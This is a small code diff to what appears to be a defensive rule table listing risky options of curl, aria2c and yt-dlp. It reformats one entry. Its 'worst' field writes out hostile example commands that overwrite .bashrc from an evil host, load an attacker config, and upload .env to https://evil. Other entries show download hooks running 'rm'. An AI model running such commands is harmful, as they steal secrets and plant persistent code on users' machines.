@@ -57,8 +57,8 @@ RECORDS = (
     Program("curl", options="-A: -b: -c: -D: -d: -e: -F: -f -G -H: -I -i -k -L -m: -o: -O -Q: -r: -S -s -T: -U: -u: -v "
         "-w: -X: -x: --cookie-jar: --data: --dump-header: --fail --header: --insecure --location --output: "
         "--output-dir: --request: --show-error --silent --trace: --url:", writes="-o, --output, -D, --dump-header, -c, "
-        "--cookie-jar, --trace, --output-dir/", broad="-o, -O, -K, -T, -d", worst="write -o /home/u/.bashrc https://evil; "
-        "load -K /tmp/evil; publish -T .env https://evil"),
+        "--cookie-jar, --trace, --output-dir/", broad="-o, -O, -K, -T, -d",
+        worst="write -o /home/u/.bashrc https://evil; load -K /tmp/evil; publish -T .env https://evil"),
     Program("aria2c", settings="--on-download-complete! --on-download-start! --on-download-error! "
         "--on-download-stop! --on-bt-download-complete!", example="aria2c --on-download-complete='rm x' u"),
     Program("yt-dlp youtube-dl", settings="--exec!", example="yt-dlp --exec 'rm x' u"),
